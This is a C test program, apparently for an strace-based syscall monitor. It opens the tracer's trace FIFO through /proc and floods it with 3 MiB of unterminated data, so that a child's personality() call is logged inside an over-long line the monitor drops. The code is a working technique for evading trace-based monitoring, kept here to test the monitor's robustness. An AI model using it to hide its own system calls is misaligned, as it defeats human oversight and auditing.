/* Issue 10 (d): open the tracer's trace FIFO through /proc/<strace>/fd/N and write >1 MiB
 * with no newline, so strace's own next line (a dangerous call) lands inside a line too long
 * to keep (another process writes while one blocks in a 3 MiB write). Exit 3 when no tracer fd could be opened. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
  char dir[64], path[128];
  snprintf(dir, sizeof dir, "/proc/%d/fd", (int)getppid());
  DIR *d = opendir(dir);
  int fifo = -1;
  if (d != NULL) {
    struct dirent *e;
    while ((e = readdir(d)) != NULL && fifo < 0) {
      if (e->d_name[0] == '.') continue;
      snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
      char target[256] = {0};
      struct stat st;
      /* The trace FIFO, not strace's stdout/stderr pipes: a named FIFO (its path was removed). */
      if (readlink(path, target, sizeof target - 1) > 0 && strstr(target, "/trace") != NULL &&
          stat(path, &st) == 0 && S_ISFIFO(st.st_mode))
        fifo = open(path, O_WRONLY);
    }
    closedir(d);
  }
  if (fifo < 0) {
    personality(0xffffffff);
    return 3;
  }
  /* One write of 3 MiB: it blocks while the pipe drains, and meanwhile a child's call
   * (strace's line about it) lands inside the flood, which has no newline. */
  static char junk[3 << 20];
  memset(junk, 'A', sizeof junk);
  pid_t pid = fork();
  if (pid == 0) {
    usleep(20 * 1000);
    personality(0xffffffff);
    _exit(0);
  }
  if (write(fifo, junk, sizeof junk) < 0) {}
  if (write(fifo, "\n", 1) < 0) {}
  waitpid(pid, NULL, 0);
  return 0;
}
